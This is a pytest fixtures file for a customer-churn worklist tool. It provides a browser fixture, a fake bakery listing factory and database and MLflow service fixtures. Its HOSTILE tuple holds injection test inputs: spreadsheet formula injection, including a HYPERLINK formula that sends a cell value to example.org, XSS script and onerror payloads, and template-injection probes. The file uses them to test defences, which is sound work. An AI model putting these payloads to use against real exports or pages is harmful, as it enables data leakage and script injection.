"""What several tests share: a browser, and a small list to write."""

import dataclasses
import datetime as dt
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from playwright.sync_api import Browser, sync_playwright

from retention.core import artefacts
from retention.core.storage import atomic, locks
from retention.worklist.model import Listing, risk_level
from tests.support import company, services

_CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)


def _chromium() -> str | None:
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((found for name in names if (found := shutil.which(name))), None)


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """The machine's own Chromium, one for all tests."""
    executable = _chromium()
    if executable is None:
        if os.environ.get("CI") == "true":
            pytest.fail("no Chromium on this machine: install chromium")
        pytest.skip("no Chromium on this machine")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=executable, args=list(_CHROMIUM_FLAGS)
        )
        yield chromium
        chromium.close()


MakeListing = Callable[..., Listing]


@pytest.fixture
def make_listing() -> MakeListing:
    """make_listing([{"name": ...}, ...], events=3, company=...): such rows, the rest made up."""

    def make(rows: list[dict[str, Any]], *, events: int = 3, **changes: Any) -> Listing:
        made = [_row(rank, row) for rank, row in enumerate(rows, start=1)]
        listing = Listing(
            list_id="2026-11-22-0123456789ab",
            rows=pa.Table.from_pylist(made, schema=artefacts.AT_RISK.schema),
            timeline=pa.Table.from_pylist(
                _timeline(made, events), schema=artefacts.TIMELINE.schema
            ),
            history=pa.Table.from_pylist(_history(made), schema=artefacts.RISK_HISTORY.schema),
            company="Mill Lane Bakery",
            currency="GBP",
            as_of=dt.date(2026, 11, 22),
            lanes=_lanes(made),
            plays={"call_back": "Call and listen", "credit_back": "Credit what was overcharged"},
            model="a made-up model of 21 November 2026",
            target_description="A watched customer has left when nothing is bought for 28 days.",
            churn_description="buy nothing in the next 28 days",
            value_days=28,
        )
        return dataclasses.replace(listing, **changes)

    return make


_WHY = {
    "contact": "chosen",
    "fix_first": "open_case",
    "gave_notice": "notice",
    "cooling_off": "just_fixed",
}


def _row(rank: int, given: dict[str, Any]) -> dict[str, Any]:
    made: dict[str, Any] = {
        "list_id": "2026-11-22-0123456789ab",
        "rank": rank,
        "lane": "contact",
        "why": _WHY[given.get("lane", "contact")],
        "change": "same",
        "customer_id": f"{rank:05d}",
        "risk": risk_level(given.get("churn_probability", 0.61)),
        "churn_probability": 0.61,
        "value_at_stake": round(1000.0 / rank, 2),
        "net_gain": round(100.0 / rank, 2) if given.get("lane", "contact") == "contact" else None,
        "expected_value": 120.5,
        "value_low": -3.0,
        "value_high": 240.25,
        "last_purchase_on": dt.date(2026, 10, 27),
        "days_since_purchase": 26.0,
        "usual_gap_days": 4.2,
        "silent_since": "26 days, usually every 4",
        "reason_1": "last visit 26 days ago, usually every 4",
        "action": "Call and listen",
        "action_name": "call_back",
        "approval": False,
    }
    return made | given


def _lanes(rows: list[dict[str, Any]]) -> dict[str, dict[str, int]]:
    lanes: dict[str, dict[str, int]] = {
        "leave_alone": {"would_stay": 1, "below_capacity": 10},
        "excluded": {"opted_out": 2, "held_out": 3},
    }
    for row in rows:
        whys = lanes.setdefault(row["lane"], {})
        whys[row["why"]] = whys.get(row["why"], 0) + 1
    return lanes


_HAPPENED = (
    ("complaint", "complained: the bread came late", "bad"),
    ("order", "ordered 12 loaves", "plain"),
    ("praise", "praised the new rye", "good"),
)


def _timeline(rows: list[dict[str, Any]], events: int) -> list[dict[str, Any]]:
    """The newest events of each row, a week apart, over and over the same three."""
    return [
        {
            "customer_id": row["customer_id"],
            "place": place,
            "day": dt.date(2026, 11, 20) - dt.timedelta(weeks=place - 1),
            **dict(zip(("kind", "text", "tone"), _HAPPENED[(place - 1) % 3], strict=True)),
        }
        for row in rows
        for place in range(1, events + 1)
    ]


def _history(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Six snapshots a month apart, the risk rising to that of the row."""
    return [
        {
            "customer_id": row["customer_id"],
            "snapshot_on": dt.date(2026, month, 22),
            "churn_probability": row["churn_probability"] * (month - 4) / 7,
        }
        for row in rows
        for month in range(6, 12)
    ]


HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'t Hooft",
    "＝1+1",  # noqa: RUF001
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }} ${7*7} {% raw %}",
    "\u202egpj.exe",
    'He said "no", twice',
    "one\r\ntwo\nthree",
    "Zoë 👩‍👩‍👧 Åström",
    "http://example.org/",
    "_x0041_ \x01 \x7f",
    " spaces ",
    "NA",
    "00123",
    "x" * 40_000,
)
"""Texts that a name may be, each of which has broken some list somewhere."""


@pytest.fixture
def hostile() -> tuple[str, ...]:
    return HOSTILE


@pytest.fixture
def snapshot_of() -> Callable[[Path], dict[str, tuple[int, bytes]]]:
    """What a folder is: every file's modification time and bytes."""

    def taken(folder: Path) -> dict[str, tuple[int, bytes]]:
        return {
            str(path.relative_to(folder)): (path.stat().st_mtime_ns, path.read_bytes())
            for path in sorted(folder.rglob("*"))
            if path.is_file()
        }

    return taken


@pytest.fixture(scope="session")
def shop(tmp_path_factory: pytest.TempPathFactory) -> company.Checkout:
    """A small company's checkout in which `dvc repro` has run once. Copy it to change it.

    Where tests run in several processes, one makes it and each gets a copy.
    """
    folder = tmp_path_factory.mktemp("company") / "shop"
    if "PYTEST_XDIST_WORKER" not in os.environ:
        return company.reproduced(folder)
    shared = tmp_path_factory.getbasetemp().parent
    log = shared / "shop.log"
    with locks.hold(shared / "shop.lock", "making the shop", print, patience=900):
        if not log.exists():
            atomic.write_text(log, company.reproduced(shared / "shop").log)
    return company.Checkout(shared / "shop", log.read_text(encoding="utf-8")).copy(folder)


@pytest.fixture(scope="session")
def postgres() -> Iterator[services.Postgres]:
    """A PostgreSQL of our own, one for all tests: each makes its own database in it."""
    with services.postgres() as running:
        yield running


@pytest.fixture(scope="session")
def mlflow_server(
    postgres: services.Postgres, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[services.MlflowServer]:
    """MLflow over HTTP with PostgreSQL behind it, one for all tests: it takes long to start."""
    store = postgres.create("mlflow")
    with services.mlflow_server(tmp_path_factory.mktemp("mlflow"), store) as running:
        yield running
